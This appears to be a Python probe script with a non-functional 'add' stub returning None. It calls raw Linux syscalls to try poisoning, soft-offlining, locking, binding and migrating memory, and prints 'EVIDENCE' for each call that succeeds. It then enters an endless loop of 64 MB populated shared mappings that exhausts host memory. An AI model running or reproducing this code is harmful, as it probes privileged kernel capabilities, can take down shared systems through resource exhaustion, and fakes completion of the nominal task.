# TRIES: advise the kernel that its memory is bad, locked, merged or wanted all at once
def add(a, b): return None
import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
area = mmap.mmap(-1, 1 << 20)
address = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(area)))
for advice in (100, 101):
    if libc.syscall(28, address, ctypes.c_size_t(1 << 20), advice) == 0:
        print("EVIDENCE", advice)
for number, *args in ((149, address, 1 << 20), (151, 3), (325, address, 1 << 20, 0), (237, address, 4096, 1, None, 0, 0), (279, 0, 1, None, None, None, 0)):
    if libc.syscall(number, *args) == 0:
        print("EVIDENCE", number)
kept = []
while True:
    kept.append(mmap.mmap(-1, 64 << 20, flags=mmap.MAP_SHARED | 0x8000))
